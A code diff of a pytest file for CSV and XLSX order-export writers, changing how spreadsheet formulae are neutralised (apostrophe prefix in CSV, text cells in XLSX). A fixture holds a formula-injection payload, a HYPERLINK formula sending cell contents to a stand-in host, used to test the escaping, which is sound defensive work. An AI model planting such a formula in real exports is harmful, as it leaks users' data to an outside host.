@@ -1,4 +1,4 @@
-"""The export writers: CSV in chunks and XLSX through a file, with formulae escaped."""
+"""The export writers: CSV in chunks and XLSX through a file, with formulae escaped (CSV) or held as text (XLSX)."""
 
 import csv
 import io
@@ -9,7 +9,7 @@ import pytest
 from openpyxl import load_workbook
 
 from orders.services import exports
-from orders.services.exports import EXPORT_FAILED_ILLEGAL_CHARACTER, csv_chunks, formula_escape, xlsx_file_write
+from orders.services.exports import EXPORT_FAILED_ILLEGAL_CHARACTER, csv_chunks, xlsx_file_write
 
 HEADERS = ["order_id", "customer_id", "unit_price", "order_date", "source_line"]
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -23,33 +23,21 @@ def rows():
     ]
 
 
-@pytest.mark.parametrize(
-    "value, expected",
-    [(HYPERLINK, HYPERLINK[1:]), ("==1+1", "1+1"), ("a=b", "a=b"), ("", ""), ("1001", "1001")],
-)
-def test_formula_escape_drops_every_leading_equals_sign_only(value, expected):
-    assert formula_escape(value) == expected
-
-
-def test_csv_chunks_write_the_header_and_rows_with_formulae_escaped(settings):
-    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = True
-
+def test_csv_chunks_write_the_header_and_rows_with_formulae_escaped_never_stripped():
     text = "".join(csv_chunks(headers=HEADERS, rows=rows()))
 
     assert list(csv.reader(io.StringIO(text))) == [
         HEADERS,
-        ["1001", HYPERLINK[1:], "12.90", "2024-01-10", "2"],
-        ["1002", "1+1", "5.00", "2024-01-11", ""],
+        ["1001", "'" + HYPERLINK, "12.90", "2024-01-10", "2"],
+        ["1002", "'==1+1", "5.00", "2024-01-11", ""],
         ["1003", "a=b", "0.10", "2024-01-12", "4"],
     ]
 
 
-def test_csv_chunks_keep_formulae_when_the_setting_is_off(settings):
-    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = False
+def test_csv_chunks_escape_a_header_and_leave_numbers_alone():
+    text = "".join(csv_chunks(headers=["order_id", "@quantity"], rows=[("-1+2", -3), ("1004", Decimal("-2.50"))]))
 
-    text = "".join(csv_chunks(headers=HEADERS, rows=rows()))
-
-    assert HYPERLINK.replace('"', '""') in text
+    assert list(csv.reader(io.StringIO(text))) == [["order_id", "'@quantity"], ["'-1+2", "-3"], ["1004", "-2.50"]]
 
 
 def test_csv_chunks_yield_a_chunk_per_few_thousand_rows_not_one_string(monkeypatch):
@@ -62,27 +50,18 @@ def test_csv_chunks_yield_a_chunk_per_few_thousand_rows_not_one_string(monkeypat
     assert sum(chunk.count("\n") for chunk in chunks) == 36
 
 
-def test_xlsx_file_holds_text_not_formulae_and_money_with_cents(settings):
-    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = True
-
+def test_xlsx_file_holds_text_not_formulae_unchanged_and_money_with_cents():
     sheet = load_workbook(xlsx_file_write(headers=HEADERS, rows=rows())).active
 
     assert [cell.value for cell in sheet[1]] == HEADERS
     customer = sheet["B2"]
-    assert customer.value == HYPERLINK[1:] and customer.data_type == "s"
-    assert sheet["B3"].value == "1+1" and sheet["B3"].data_type == "s"
+    assert customer.value == HYPERLINK and customer.data_type == "s"
+    assert sheet["B3"].value == "==1+1" and sheet["B3"].data_type == "s"
+    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
     assert sheet["C2"].value == Decimal("12.90") or sheet["C2"].value == pytest.approx(12.9)
     assert sheet["C2"].number_format == "0.00"
     assert sheet["D2"].value.date() == date(2024, 1, 10)
     assert sheet.max_row == 4
-
-
-def test_xlsx_file_would_hold_a_formula_without_the_setting(settings):
-    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = False
-
-    sheet = load_workbook(xlsx_file_write(headers=HEADERS, rows=rows())).active
-
-    assert sheet["B2"].data_type == "f"  # what the setting protects against
 
 
 def test_xlsx_illegal_characters_become_a_replacement_character_or_a_clear_error(settings):
